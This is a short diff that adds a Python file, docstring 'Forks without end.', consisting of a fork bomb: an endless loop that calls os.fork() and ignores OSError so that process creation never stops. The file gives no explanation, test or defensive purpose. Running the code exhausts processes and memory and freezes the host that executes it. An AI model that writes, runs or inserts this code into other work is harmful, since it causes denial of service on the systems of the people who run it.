@@ -1,0 +1,9 @@
+"""Forks without end."""
+# %% first
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
